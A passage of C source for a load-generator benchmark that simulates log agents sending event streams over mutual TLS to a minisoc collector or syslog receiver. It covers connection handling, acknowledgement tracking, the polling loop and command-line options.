	    lg_allowed(a, now) > 0;
}

/* ---- receiving --------------------------------------------------------- */

static void
lg_on_ack(struct lg_agent *a, uint64_t seq)
{
	if (a->state == LG_ST_HELLO) {
		/* What the collector already handled: this run numbers on from there. */
		a->handled0 = seq;
		a->acked_seq = seq;
		a->next_seq = seq + 1;
		a->state = LG_ST_READY;
		return;
	}
	if (seq >= a->next_seq)
		lg_fail(a, "the collector acknowledged %" PRIu64 ", but only up to %" PRIu64
		    " was sent (another session with this identity?)", seq, a->next_seq - 1);
	if (seq > a->acked_seq)
		a->acked_seq = seq;
}

/* Handles the whole frames in a->in. */
static void
lg_frames(struct lg_agent *a)
{
	size_t off = 0;

	while (a->in_len - off >= MS_PROTO_HDR_LEN) {
		struct ms_frame_hdr h;
		const uint8_t *p = a->in + off;
		uint64_t seq;
		int64_t t;
		uint16_t code = 0;
		char reason[300];
		int rc = ms_proto_hdr_parse(p, a->in_len - off, LG_IN_MAX - MS_PROTO_HDR_LEN, &h);

		if (rc == MS_PROTO_NEED_MORE)
			break;
		if (rc != MS_PROTO_OK)
			lg_fail(a, "bad frame from the collector: %s", ms_proto_strerror(rc));
		if (a->in_len - off < MS_PROTO_HDR_LEN + (size_t)h.len)
			break;
		p += MS_PROTO_HDR_LEN;
		switch (h.type) {
		case MS_MSG_ACK:
			if (ms_ack_decode(p, h.len, &seq) != 0)
				lg_fail(a, "malformed ACK from the collector");
			lg_on_ack(a, seq);
			break;
		case MS_MSG_HEARTBEAT:
			if (ms_heartbeat_decode(p, h.len, &t) != 0)
				lg_fail(a, "malformed HEARTBEAT from the collector");
			break;
		case MS_MSG_ERROR:
			if (ms_error_decode(p, h.len, &code, reason, sizeof(reason)) != 0)
				snprintf(reason, sizeof(reason), "(malformed ERROR frame)");
			lg_fail(a, "the collector sent ERROR %u: %s", code, reason);
		default:
			lg_fail(a, "unexpected %s frame from the collector", ms_proto_type_name(h.type));
		}
		off += MS_PROTO_HDR_LEN + h.len;
	}
	memmove(a->in, a->in + off, a->in_len - off);
	a->in_len -= off;
}

/* Reads what the peer sent. Returns true when it closed its side (EOF / close_notify). */
static bool
lg_read(struct lg_agent *a, int64_t now)
{
	char why[512];

	for (;;) {
		int r, e;

		ERR_clear_error();
		r = SSL_read(a->ssl, a->in + a->in_len, (int)(LG_IN_MAX - a->in_len));
		if (r > 0) {
			a->last_rx_ns = now;
			if (a->lg->c.mode == LG_MODE_SYSLOG) {
				a->in_len = 0;	/* a syslog receiver says nothing we need */
				continue;
			}
			a->in_len += (size_t)r;
			lg_frames(a);
			continue;
		}
		e = SSL_get_error(a->ssl, r);
		if (e == SSL_ERROR_WANT_READ)
			return false;
		if (e == SSL_ERROR_WANT_WRITE) {
			a->want_write = true;
			return false;
		}
		if (a->state == LG_ST_CLOSING && (e == SSL_ERROR_ZERO_RETURN ||
		    (e == SSL_ERROR_SYSCALL && r == 0) || e == SSL_ERROR_SSL)) {
			ERR_clear_error();
			return true;
		}
		lg_ssl_reason(a, r, e, why, sizeof(why));
		if (a->state == LG_ST_READY && a->lg->c.mode == LG_MODE_MINISOC)
			lg_fail(a, "%s (unacknowledged: %" PRIu64 ")", why,
			    a->next_seq - 1 - a->acked_seq);
		lg_fail(a, "%s", why);
	}
}

/* ---- connections ------------------------------------------------------- */

/* Creates a's TLS context from DIR/ca.crt and its certificate. Exits on error. */
static void
lg_agent_init(struct lg *lg, struct lg_agent *a, unsigned idx)
{
	char ca[4200], crt[4200], key[4200], err[512];

	memset(a, 0, sizeof(*a));
	a->lg = lg;
	a->idx = idx;
	a->fd = -1;
	snprintf(a->name, sizeof(a->name), "%s%u", lg->c.prefix, idx + 1);
	ms_buf_init(&a->out, LG_OUT_CAP);
	if ((a->in = malloc(LG_IN_MAX)) == NULL || (a->scratch = malloc(LG_SCRATCH)) == NULL)
		lg_die(1, "out of memory");
	a->audit_serial = 1000000u + lg_below(8000000u);
	a->pool_pos = (size_t)((uint64_t)lg->pool.n * idx / lg->c.agents);
	a->next_seq = 1;
	if (lg->c.dry_run || lg->c.dump)
		return;
	snprintf(ca, sizeof(ca), "%s/ca.crt", lg->c.pki);
	snprintf(crt, sizeof(crt), "%s/agent-%s.crt", lg->c.pki, a->name);
	snprintf(key, sizeof(key), "%s/agent-%s.key", lg->c.pki, a->name);
	if (access(crt, R_OK) != 0)
		lg_die(1, "%s: %s (make it with deploy/pki.sh %s %s ...)", crt, strerror(errno),
		    lg->c.pki, a->name);
	if ((a->ctx = ms_tls_client_ctx_new(ca, crt, key, err, sizeof(err))) == NULL)
		lg_die(1, "agent %s: %s", a->name, err);
	SSL_CTX_set_mode(a->ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
}

static void
lg_agent_fini(struct lg_agent *a)
{
	if (a->ssl)
		SSL_free(a->ssl);
	if (a->fd >= 0)
		close(a->fd);
	SSL_CTX_free(a->ctx);
	ms_buf_fini(&a->out);
	free(a->in);
	free(a->scratch);
}

static void
lg_connect(struct lg_agent *a, int64_t now)
{
	const struct addrinfo *ai = a->lg->ai;
	int one = 1;

	a->fd = socket(ai->ai_family, ai->ai_socktype | SOCK_NONBLOCK | SOCK_CLOEXEC,
	    ai->ai_protocol);
	if (a->fd < 0)
		lg_fail(a, "socket: %s", strerror(errno));
	setsockopt(a->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (connect(a->fd, ai->ai_addr, ai->ai_addrlen) != 0 && errno != EINPROGRESS)
		lg_fail(a, "connect: %s", strerror(errno));
	a->state = LG_ST_CONNECTING;
	a->deadline_ns = now + LG_CONNECT_NS;
}

/* Drives connect, handshake and hello; called when the socket is ready. */
static void
lg_progress(struct lg_agent *a, int64_t now)
{
	char why[512];
	int r, e;

	if (a->state == LG_ST_CONNECTING) {
		int soerr = 0;
		socklen_t sl = sizeof(soerr);
		if (getsockopt(a->fd, SOL_SOCKET, SO_ERROR, &soerr, &sl) != 0)
			soerr = errno;
		if (soerr != 0)
			lg_fail(a, "connect: %s", strerror(soerr));
		if ((a->ssl = SSL_new(a->ctx)) == NULL ||
		    ms_tls_client_set_peer_name(a->ssl, a->lg->c.server_name) < 0 ||
		    SSL_set_fd(a->ssl, a->fd) != 1)
			lg_fail(a, "TLS setup failed");
		a->state = LG_ST_HANDSHAKE;
	}
	if (a->state != LG_ST_HANDSHAKE)
		return;
	ERR_clear_error();
	r = SSL_connect(a->ssl);
	if (r == 1) {
		a->last_rx_ns = a->last_tx_ns = now;
		if (a->lg->c.mode == LG_MODE_SYSLOG) {
			a->state = LG_ST_READY;
			return;
		}
		struct ms_hello h;
		memset(&h, 0, sizeof(h));
		snprintf(h.agent_version, sizeof(h.agent_version), "loadgen-%s", MINISOC_VERSION);
		snprintf(h.hostname, sizeof(h.hostname), "%s", a->name);
		snprintf(h.os, sizeof(h.os), "Linux (minisoc loadgen)");
		h.tz_offset_s = 0;	/* every time stamp we write is UTC */
		if (ms_hello_encode(&a->out, &h) < 0)
			lg_fail(a, "cannot encode the hello");
		a->state = LG_ST_HELLO;
		lg_flush(a, now);
		return;
	}
	e = SSL_get_error(a->ssl, r);
	if (e == SSL_ERROR_WANT_READ)
		return;
	if (e == SSL_ERROR_WANT_WRITE) {
		a->want_write = true;
		return;
	}
	lg_ssl_reason(a, r, e, why, sizeof(why));
	lg_fail(a, "TLS handshake: %s", why);
}

/* Everything sent (and, minisoc, acknowledged): close_notify, then wait for the peer's. */
static void
lg_start_close(struct lg_agent *a, int64_t now)
{
	a->done_ns = now;
	if (a->lg->c.dry_run) {
		a->state = LG_ST_DONE;
		return;
	}
	ERR_clear_error();
	(void)SSL_shutdown(a->ssl);
	a->state = LG_ST_CLOSING;
	a->deadline_ns = now + LG_CLOSE_NS;
}

static void
lg_finish(struct lg_agent *a, bool peer_closed, int64_t now)
{
	/* syslog: the receiver has read everything once it closes its side */
	if (a->lg->c.mode == LG_MODE_SYSLOG)
		a->done_ns = now;
	if (!peer_closed)
		fprintf(stderr, "loadgen: agent %s: the server did not close its side within %lld s "
		    "after our close_notify\n", a->name, LG_CLOSE_NS / LG_NS);
	SSL_free(a->ssl);
	a->ssl = NULL;
	close(a->fd);
	a->fd = -1;
	a->state = LG_ST_DONE;
}

/* Timeouts, heartbeats and the end of an agent's run. */
static void
lg_check(struct lg_agent *a, int64_t now)
{
	const struct lg *lg = a->lg;

	switch (a->state) {
	case LG_ST_CONNECTING:
	case LG_ST_HANDSHAKE:
	case LG_ST_HELLO:
		if (now > a->deadline_ns)
			lg_fail(a, "%s did not finish within %lld s", a->state == LG_ST_HELLO ?
			    "the hello (no ACK)" : "connect and TLS handshake", LG_CONNECT_NS / LG_NS);
		return;
	case LG_ST_READY:
		if (!a->gen_done || a->out_off < a->out.len)
			break;
		if (lg->c.mode == LG_MODE_MINISOC && a->acked_seq + 1 < a->next_seq)
			break;
		lg_start_close(a, now);
		return;
	case LG_ST_CLOSING:
		if (now > a->deadline_ns)
			lg_finish(a, false, now);
		return;
	case LG_ST_DONE:
		return;
	}
	if (lg->c.dry_run || lg->c.mode != LG_MODE_MINISOC)
		return;
	/* waiting for ACKs: the collector must answer something */
	if (a->acked_seq + 1 < a->next_seq && now - a->last_rx_ns > LG_DEAD_NS)
		lg_fail(a, "no answer from the collector for %lld s (unacknowledged: %" PRIu64 ")",
		    LG_DEAD_NS / LG_NS, a->next_seq - 1 - a->acked_seq);
	if (now - a->last_tx_ns > LG_HEARTBEAT_NS && a->out_off == a->out.len) {
		ms_buf_reset(&a->out);
		a->out_off = 0;
		if (ms_heartbeat_encode(&a->out, ms_now_ms()) == 0)
			lg_flush(a, now);
	}
}

/* ---- the run ----------------------------------------------------------- */

struct lg_totals {
	uint64_t sent, acked, inflight, slipped;
};

static struct lg_totals
lg_totals(const struct lg *lg)
{
	struct lg_totals s = { 0, 0, 0, 0 };

	for (unsigned i = 0; i < lg->c.agents; i++) {
		const struct lg_agent *a = &lg->a[i];
		s.sent += a->sent;
		s.slipped += a->slipped;
		if (lg->c.mode == LG_MODE_MINISOC) {
			uint64_t acked = a->acked_seq - a->handled0;
			s.acked += acked;
			s.inflight += a->sent - acked;
		} else if (a->state == LG_ST_DONE || a->state == LG_ST_CLOSING) {
			s.acked += a->sent;
		}
	}
	return s;
}

static double
lg_cpu_s(void)
{
	struct rusage ru;

	getrusage(RUSAGE_SELF, &ru);
	return (double)ru.ru_utime.tv_sec + (double)ru.ru_utime.tv_usec / 1e6 +
	    (double)ru.ru_stime.tv_sec + (double)ru.ru_stime.tv_usec / 1e6;
}

/* Polls every agent that has a socket; timeout_ns < 0: forever. */
static void
lg_poll(struct lg *lg, struct pollfd *pfd, int64_t timeout_ns)
{
	struct timespec ts = { (time_t)(timeout_ns / LG_NS), (long)(timeout_ns % LG_NS) };
	unsigned n = lg->c.agents;
	int64_t now;

	for (unsigned i = 0; i < n; i++) {
		struct lg_agent *a = &lg->a[i];
		pfd[i].fd = a->fd;
		pfd[i].revents = 0;
		pfd[i].events = a->state == LG_ST_CONNECTING ? POLLOUT : POLLIN;
		if (a->want_write || (a->ssl && a->out_off < a->out.len))
			pfd[i].events |= POLLOUT;
		if (a->state == LG_ST_DONE || lg->c.dry_run)
			pfd[i].fd = -1;
	}
	if (ppoll(pfd, n, timeout_ns < 0 ? NULL : &ts, NULL) < 0) {
		if (errno == EINTR)
			return;
		lg_die(1, "poll: %s", strerror(errno));
	}
	now = lg_mono_ns();
	for (unsigned i = 0; i < n; i++) {
		struct lg_agent *a = &lg->a[i];
		short re = pfd[i].revents;
		if (pfd[i].fd < 0 || re == 0)
			continue;
		if (a->state == LG_ST_CONNECTING || a->state == LG_ST_HANDSHAKE) {
			a->want_write = false;
			lg_progress(a, now);
			continue;
		}
		if (re & (POLLIN | POLLERR | POLLHUP)) {
			if (lg_read(a, now) && a->state == LG_ST_CLOSING) {
				lg_finish(a, true, now);
				continue;
			}
		}
		if ((re & (POLLOUT | POLLERR | POLLHUP)) && a->ssl) {
			a->want_write = false;
			lg_flush(a, now);
		}
	}
}

/* Connects every agent; returns once all are ready to send. */
static void
lg_connect_all(struct lg *lg, struct pollfd *pfd)
{
	unsigned ready = 0;

	if (lg->c.dry_run) {
		for (unsigned i = 0; i < lg->c.agents; i++)
			lg->a[i].state = LG_ST_READY;
		return;
	}
	for (unsigned i = 0; i < lg->c.agents; i++)
		lg_connect(&lg->a[i], lg_mono_ns());
	while (ready < lg->c.agents) {
		int64_t now;
		if (lg_signals)
			lg_die(1, "interrupted while connecting");
		lg_poll(lg, pfd, 50 * 1000000LL);
		now = lg_mono_ns();
		ready = 0;
		for (unsigned i = 0; i < lg->c.agents; i++) {
			lg_check(&lg->a[i], now);
			ready += lg->a[i].state == LG_ST_READY;
		}
	}
}

static void
lg_run(struct lg *lg)
{
	struct pollfd *pfd = calloc(lg->c.agents, sizeof(*pfd));
	struct lg_totals tot;
	int64_t now, next_report, t_end = 0, last_report;
	uint64_t last_sent = 0;
	double cpu0, cpu1, secs;
	bool stopping = false;

	if (pfd == NULL)
		lg_die(1, "out of memory");
	lg_connect_all(lg, pfd);
	now = lg_mono_ns();
	lg->start_ns = now;
	if (lg->c.seconds > 0)
		lg->stop_ns = now + (int64_t)(lg->c.seconds * (double)LG_NS);
	cpu0 = lg_cpu_s();
	last_report = now;
	next_report = now + LG_NS;
	for (unsigned i = 0; i < lg->c.agents; i++) {
		struct lg_agent *a = &lg->a[i];
		a->sched_ns = now;
		a->last_tx_ns = a->last_rx_ns = now;
		if (lg->c.rate > 0)
			a->rate_per_ns = lg->c.rate / lg->c.agents / (double)LG_NS;
	}
	for (;;) {
		int64_t timeout = -1, next_due = INT64_MAX;
		unsigned active = 0;
		bool busy = false;

		now = lg_mono_ns();
		if (lg_signals && !stopping) {
			stopping = true;
			fprintf(stderr, "loadgen: stopping: waiting for what was sent (again to quit)\n");
			for (unsigned i = 0; i < lg->c.agents; i++)
				lg->a[i].gen_done = true;
		}
		if (lg_signals > 1)
			lg_die(1, "interrupted");
		for (unsigned i = 0; i < lg->c.agents; i++) {
			struct lg_agent *a = &lg->a[i];
			if (a->state == LG_ST_DONE)
				continue;
			busy |= lg_generate(a, now);
			lg_check(a, now);
			if (a->state == LG_ST_DONE)
				continue;
			active++;
			if (a->state == LG_ST_READY && !a->gen_done && a->rate_per_ns > 0) {
				/* the next event's deadline, but at most one wake-up per ms */
				int64_t due = a->sched_ns + (int64_t)((double)(a->sent + 1 - a->sched_sent) /
				    a->rate_per_ns);
				if (due < now + LG_TICK_NS)
					due = now + LG_TICK_NS;
				if (due < next_due)
					next_due = due;
			}
		}
		if (active == 0)
			break;
		if (now >= next_report) {
			tot = lg_totals(lg);
			if (!lg->c.quiet)
				fprintf(stderr, "loadgen: %.1f s sent=%" PRIu64 " acked=%" PRIu64
				    " rate=%.0f/s unacked=%" PRIu64 " slipped=%" PRIu64 " marked=%" PRIu64
				    "\n", (double)(now - lg->start_ns) / 1e9, tot.sent, tot.acked,
				    (double)(tot.sent - last_sent) * 1e9 / (double)(now - last_report),
				    tot.inflight, tot.slipped, lg->marks);
			last_sent = tot.sent;
			last_report = now;
			next_report += LG_NS;
			if (next_report <= now)
				next_report = now + LG_NS;
		}
		if (busy) {
			timeout = 0;
		} else {
			int64_t wake = next_report;
			if (next_due < wake)
				wake = next_due;
			if (lg->stop_ns && now < lg->stop_ns && lg->stop_ns < wake)
				wake = lg->stop_ns;
			/* deadlines of connects and closes, heartbeats: checked often enough */
			if (now + 100 * 1000000LL < wake)
				wake = now + 100 * 1000000LL;
			timeout = wake > now ? wake - now : 0;
		}
		if (lg->c.dry_run) {
			if (timeout > 0)
				clock_nanosleep(CLOCK_MONOTONIC, 0,
				    &(struct timespec){ (time_t)(timeout / LG_NS), (long)(timeout % LG_NS) },
				    NULL);
			continue;
		}
		lg_poll(lg, pfd, timeout);
	}
	for (unsigned i = 0; i < lg->c.agents; i++)
		if (lg->a[i].done_ns > t_end)
			t_end = lg->a[i].done_ns;
	cpu1 = lg_cpu_s();
	secs = (double)(t_end - lg->start_ns) / 1e9;
	if (secs <= 0)
		secs = 1e-9;
	tot = lg_totals(lg);
	printf("loadgen: run=%s marked=%" PRIu64 " mark_every=%" PRIu64 " slipped=%" PRIu64
	    " cpu_s=%.3f cpu_pct=%.1f%s\n", lg->c.run, lg->marks, lg->c.mark, tot.slipped,
	    cpu1 - cpu0, 100.0 * (cpu1 - cpu0) / secs, stopping ? " interrupted=1" : "");
	if (lg->c.mode == LG_MODE_MINISOC && !lg->c.dry_run)
		for (unsigned i = 0; i < lg->c.agents; i++)
			printf("loadgen: agent=%s handled_before=%" PRIu64 " seq=%" PRIu64 "..%" PRIu64
			    " sent=%" PRIu64 "\n", lg->a[i].name, lg->a[i].handled0,
			    lg->a[i].handled0 + 1, lg->a[i].next_seq - 1, lg->a[i].sent);
	printf("loadgen: mode=%s agents=%u sent=%" PRIu64 " acked=%" PRIu64 " seconds=%.3f "
	    "rate=%.0f\n", lg->c.mode == LG_MODE_MINISOC ? "minisoc" : "syslog", lg->c.agents,
	    tot.sent, tot.acked, secs, (double)tot.sent / secs);
	fflush(stdout);
	free(pfd);
}

/* --dump: agent 1's events on stdout, as they would be sent. */
static void
lg_dump(struct lg *lg)
{
	struct lg_agent *a = &lg->a[0];
	uint64_t n = lg->c.events ? lg->c.events : 1000;

	lg_clock_update(&lg->clk);
	for (uint64_t k = 0; k < n; k++) {
		const struct lg_tpl *t = lg_next_tpl(a);
		bool marked = lg_take_mark(a, t);
		if (lg->c.dump_mix) {
			size_t l = lg_file_line(a, t, false);
			size_t at = l - t->msg_len + (size_t)t->mark_at;
			if (t->mark_at < 0)
				printf("%s\t%.*s\n", t->source, (int)l, a->scratch);
			else if (t->mark_pre[0] == '\0')
				printf("%s\t%.*s@MARK@%.*s\n", t->source, (int)at, a->scratch,
				    (int)(l - at), a->scratch + at);
			else
				printf("%s\t%.*s@MARK:%s@%.*s\n", t->source, (int)at, a->scratch,
				    t->mark_pre, (int)(l - at), a->scratch + at);
			marked = false;
		} else if (lg->c.mode == LG_MODE_MINISOC) {
			size_t l = lg_file_line(a, t, marked);
			printf("%s\t%.*s\n", t->source, (int)l, a->scratch);
		} else {
			const char *sp;
			ms_buf_reset(&a->out);
			if (lg_syslog_frame(a, t, marked) < 0)
				lg_die(1, "output buffer full");
			/* without the octet count: one message per line */
			sp = memchr(a->out.data, ' ', a->out.len);
			printf("%.*s\n", (int)(a->out.len - (size_t)(sp + 1 - a->out.data)), sp + 1);
		}
		lg->marks += marked;
	}
}

/* ---- command line ------------------------------------------------------ */

static void
lg_usage(FILE *out)
{
	fprintf(out,
	    "usage: loadgen --port P --pki DIR [--host 127.0.0.1] [--server-name collector.minisoc.local]\n"
	    "               [--agents N] [--rate R] (--events E | --seconds S) [--mark M] [--run ID]\n"
	    "               [--mode minisoc|syslog] [--batch B] [--window W] [--mix builtin|FILE]\n"
	    "               [--quiet] [--syslog-format 5424|3164] [--max-frame BYTES] [--pool N]\n"
	    "               [--seed S] [--tick N] [--agent-prefix P] [--dump | --dump-mix] [--dry-run]\n"
	    "\n"
	    "Simulates N agents (certificates DIR/agent-<P>I.crt/.key, I = 1..N, CA DIR/ca.crt)\n"
	    "sending a realistic event mix over mutual TLS 1.3, to a minisoc collector\n"
	    "(protocol v1, every event acknowledged) or to a syslog receiver (octet-counted\n"
	    "RFC 5424 messages). See the top of bench/loadgen.c and docs/performance.md.\n"
	    "\n"
	    "  --port P            server port (required)\n"
	    "  --pki DIR           folder made by deploy/pki.sh DIR lg1 ... lgN (required)\n"
	    "  --host H            server address or name (default 127.0.0.1)\n"
	    "  --server-name NAME  name checked in the server certificate, and SNI\n"
	    "                      (default collector.minisoc.local)\n"
	    "  --agents N          simulated agents, one connection each (default 1)\n"
	    "  --rate R            events/s summed over all agents; 0 = flat out (default 0)\n"
	    "  --events E          events in total, split evenly over the agents\n"
	    "  --seconds S         or: generate for S seconds\n"
	    "  --mark M            one event in M carries \"MSEQ <run> <n> t=<ns> \" (default 100,\n"
	    "                      0 = none)\n"
	    "  --run ID            the run's name in the markers (default lg)\n"
	    "  --mode MODE         minisoc (default) or syslog\n"
	    "  --batch B           events per BATCH frame (minisoc; default 256)\n"
	    "  --window W          unacknowledged events per agent (minisoc; default 65536)\n"
	    "  --mix MIX           builtin (default) or a FILE of \"source<TAB>line\" templates\n"
	    "  --quiet             no progress lines on stderr\n"
	    "  --syslog-format F   syslog mode: 5424 (default) or 3164 headers\n"
	    "  --max-frame BYTES   largest BATCH payload (default 1048576, the collector's\n"
	    "                      limits.max_frame default)\n"
	    "  --pool N            builtin mix: distinct events generated (default 65536)\n"
	    "  --seed S            builtin mix: generator seed (default 1)\n"
	    "  --tick N            builtin mix: lines per agent read tick; a tick's lines go\n"
	    "                      file by file, as the agent reads them (default 256;\n"
	    "                      1 = each event drawn on its own, the files interleaved)\n"
	    "  --agent-prefix P    certificate names agent-<P>I (default lg)\n"
	    "  --dump              print agent 1's events (--events, default 1000) instead of\n"
	    "                      sending: \"source<TAB>line\" (minisoc) or syslog messages\n"
	    "  --dump-mix          the same as a --mix FILE: @MARK[:SEP]@ where a marker may go\n"
	    "  --dry-run           build and encode everything, send nothing (generator speed)\n"
	    "  -h, --help          this text\n"
	    "\n"
	    "Output: progress on stderr every second; on stdout the markers (\"marked=K\":\n"
	    "numbers 0..K-1), per agent the sequence numbers, and last:\n"
	    "  loadgen: mode=<m> agents=<N> sent=<E> acked=<A> seconds=<S.sss> rate=<R>\n"
	    "Exit status: 0 success, 1 connection/TLS/protocol error, 2 bad usage.\n");
}

static void lg_bad(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));

static void
lg_bad(const char *fmt, ...)
{
	va_list ap;

	fputs("loadgen: ", stderr);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputs(" (see --help)\n", stderr);
	exit(2);
}

static uint64_t
lg_arg_u64(const char *opt, const char *s, uint64_t min, uint64_t max)
{
	int64_t v;

	if (ms_parse_i64(s, (int64_t)min, max > INT64_MAX ? INT64_MAX : (int64_t)max, &v) < 0)
		lg_bad("%s: expected a whole number in %" PRIu64 "..%" PRIu64 ", got '%s'", opt, min,
		    max, s);
	return (uint64_t)v;
}

static double
lg_arg_double(const char *opt, const char *s, double min, double max)
{
	char *end = NULL;
	double v;

	errno = 0;
	v = strtod(s, &end);
	if (errno != 0 || end == s || *end != '\0' || !(v >= min && v <= max))
		lg_bad("%s: expected a number in %g..%g, got '%s'", opt, min, max, s);
	return v;
}

static bool
lg_name_ok(const char *s, size_t max)
{
	size_t n = strlen(s);

	if (n == 0 || n > max)
		return false;
	for (const char *c = s; *c; c++)
		if (!((*c >= 'a' && *c <= 'z') || (*c >= 'A' && *c <= 'Z') || (*c >= '0' && *c <= '9') ||
		    *c == '.' || *c == '_' || *c == '-'))
			return false;
	return true;
}

static void
lg_parse(struct lg_conf *c, int argc, char **argv)
{
	enum { O_PORT = 256, O_PKI, O_HOST, O_SNAME, O_AGENTS, O_RATE, O_EVENTS, O_SECONDS,
		O_MARK, O_RUN, O_MODE, O_BATCH, O_WINDOW, O_MIX, O_QUIET, O_SFMT, O_MAXF, O_POOL, O_TICK,
		O_SEED, O_PREFIX, O_DUMP, O_DUMP_MIX, O_DRY };
	static const struct option opts[] = {
		{ "port", required_argument, NULL, O_PORT },
		{ "pki", required_argument, NULL, O_PKI },
		{ "host", required_argument, NULL, O_HOST },
		{ "server-name", required_argument, NULL, O_SNAME },
		{ "agents", required_argument, NULL, O_AGENTS },
		{ "rate", required_argument, NULL, O_RATE },
		{ "events", required_argument, NULL, O_EVENTS },
		{ "seconds", required_argument, NULL, O_SECONDS },
		{ "mark", required_argument, NULL, O_MARK },
		{ "run", required_argument, NULL, O_RUN },
		{ "mode", required_argument, NULL, O_MODE },
		{ "batch", required_argument, NULL, O_BATCH },
		{ "window", required_argument, NULL, O_WINDOW },
		{ "mix", required_argument, NULL, O_MIX },
		{ "quiet", no_argument, NULL, O_QUIET },
		{ "syslog-format", required_argument, NULL, O_SFMT },
		{ "max-frame", required_argument, NULL, O_MAXF },
		{ "pool", required_argument, NULL, O_POOL },
		{ "tick", required_argument, NULL, O_TICK },
		{ "seed", required_argument, NULL, O_SEED },
		{ "agent-prefix", required_argument, NULL, O_PREFIX },
		{ "dump", no_argument, NULL, O_DUMP },
		{ "dump-mix", no_argument, NULL, O_DUMP_MIX },
		{ "dry-run", no_argument, NULL, O_DRY },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	bool have_events = false;
	int o;

	memset(c, 0, sizeof(*c));
	c->host = "127.0.0.1";
	c->server_name = "collector.minisoc.local";
	c->run = "lg";
	c->mix = "builtin";
	c->prefix = "lg";
	c->agents = 1;
	c->mark = 100;
	c->mode = LG_MODE_MINISOC;
	c->batch = 256;
	c->window = 65536;
	c->max_frame = MS_PROTO_MAX_FRAME;
	c->pool = 65536;
	c->tick = 256;
	c->seed = 1;
	while ((o = getopt_long(argc, argv, "h", opts, NULL)) != -1) {
		switch (o) {
		case O_PORT:
			(void)lg_arg_u64("--port", optarg, 1, 65535);
			c->port = optarg;
			break;
		case O_PKI: c->pki = optarg; break;
		case O_HOST: c->host = optarg; break;
		case O_SNAME: c->server_name = optarg; break;
		case O_AGENTS: c->agents = (unsigned)lg_arg_u64("--agents", optarg, 1, LG_MAX_AGENTS); break;
		case O_RATE: c->rate = lg_arg_double("--rate", optarg, 0, 1e9); break;
		case O_EVENTS:
			c->events = lg_arg_u64("--events", optarg, 1, UINT64_MAX / 2);
			have_events = true;
			break;
		case O_SECONDS: c->seconds = lg_arg_double("--seconds", optarg, 0.001, 1e7); break;
		case O_MARK: c->mark = lg_arg_u64("--mark", optarg, 0, UINT32_MAX); break;
		case O_RUN: c->run = optarg; break;
		case O_MODE:
			if (strcmp(optarg, "minisoc") == 0)
				c->mode = LG_MODE_MINISOC;
			else if (strcmp(optarg, "syslog") == 0)
				c->mode = LG_MODE_SYSLOG;
			else
				lg_bad("--mode: minisoc or syslog, not '%s'", optarg);
			break;
		case O_BATCH: c->batch = (unsigned)lg_arg_u64("--batch", optarg, 1, 1000000); break;
		case O_WINDOW: c->window = lg_arg_u64("--window", optarg, 1, UINT32_MAX); break;
		case O_MIX: c->mix = optarg; break;
		case O_QUIET: c->quiet = true; break;
		case O_SFMT:
			if (strcmp(optarg, "5424") == 0)
				c->bsd = false;
			else if (strcmp(optarg, "3164") == 0)
				c->bsd = true;
			else
				lg_bad("--syslog-format: 5424 or 3164, not '%s'", optarg);
			break;
		case O_MAXF:
			c->max_frame = (uint32_t)lg_arg_u64("--max-frame", optarg, 4096,
			    MS_PROTO_MAX_FRAME_HARD);
			break;
		case O_POOL: c->pool = (size_t)lg_arg_u64("--pool", optarg, 1, 1u << 24); break;
		case O_TICK: c->tick = (size_t)lg_arg_u64("--tick", optarg, 1, 1u << 24); break;
		case O_SEED: c->seed = lg_arg_u64("--seed", optarg, 0, UINT64_MAX / 2); break;
		case O_PREFIX: c->prefix = optarg; break;
		case O_DUMP: c->dump = true; break;
		case O_DUMP_MIX:
			c->dump = c->dump_mix = true;
			c->mode = LG_MODE_MINISOC;
			break;
		case O_DRY: c->dry_run = true; break;
		case 'h':
			lg_usage(stdout);
			exit(0);
		default:
			lg_usage(stderr);
			exit(2);
		}
	}
	if (optind < argc)
		lg_bad("unexpected argument '%s'", argv[optind]);
	if (!c->dump) {
		if (have_events == (c->seconds > 0))
			lg_bad("give exactly one of --events and --seconds");
		if (!c->dry_run && (c->port == NULL || c->pki == NULL))
			lg_bad("--port and --pki are required");
	} else if (c->seconds > 0) {
		lg_bad("--dump takes --events, not --seconds");
	}
	if (!lg_name_ok(c->run, 64))
		lg_bad("--run: 1..64 of letters, digits, '.', '_', '-'");
	if (!lg_name_ok(c->prefix, 32))
		lg_bad("--agent-prefix: 1..32 of letters, digits, '.', '_', '-'");
}

int
main(int argc, char **argv)
{
	struct lg lg;
	struct addrinfo hints;
	struct sigaction sa;
	int rc;

	memset(&lg, 0, sizeof(lg));
	lg_parse(&lg.c, argc, argv);
	lg_rng_state ^= lg.c.seed * 0xbf58476d1ce4e5b9ULL;
	if (lg_rng_state == 0)
		lg_rng_state = 1;
	if (strcmp(lg.c.mix, "builtin") == 0) {
		lg_pool_builtin(&lg.pool, lg.c.pool);
		lg_pool_ticks(&lg.pool, lg.c.tick);
	} else
		lg_pool_file(&lg.pool, lg.c.mix);
	if (!lg.c.quiet && !lg.c.dump)
		lg_pool_describe(&lg);
	if (lg.c.dump)
		lg.c.agents = 1;
	if ((lg.a = calloc(lg.c.agents, sizeof(*lg.a))) == NULL)
		lg_die(1, "out of memory");
	for (unsigned i = 0; i < lg.c.agents; i++) {
		struct lg_agent *a = &lg.a[i];
		lg_agent_init(&lg, a, i);
		a->quota = lg.c.events ? lg.c.events / lg.c.agents + (i < lg.c.events % lg.c.agents)
		    : UINT64_MAX;
	}
	if (lg.c.dump) {
		lg_dump(&lg);
		goto out;
	}
	if (!lg.c.dry_run) {
		memset(&hints, 0, sizeof(hints));
		hints.ai_family = AF_UNSPEC;
		hints.ai_socktype = SOCK_STREAM;
		if ((rc = getaddrinfo(lg.c.host, lg.c.port, &hints, &lg.ai)) != 0)
			lg_die(1, "%s: %s", lg.c.host, gai_strerror(rc));
	}
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = lg_signal_cb;
	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);
	lg_run(&lg);
out:
	for (unsigned i = 0; i < lg.c.agents; i++)
		lg_agent_fini(&lg.a[i]);
	free(lg.a);
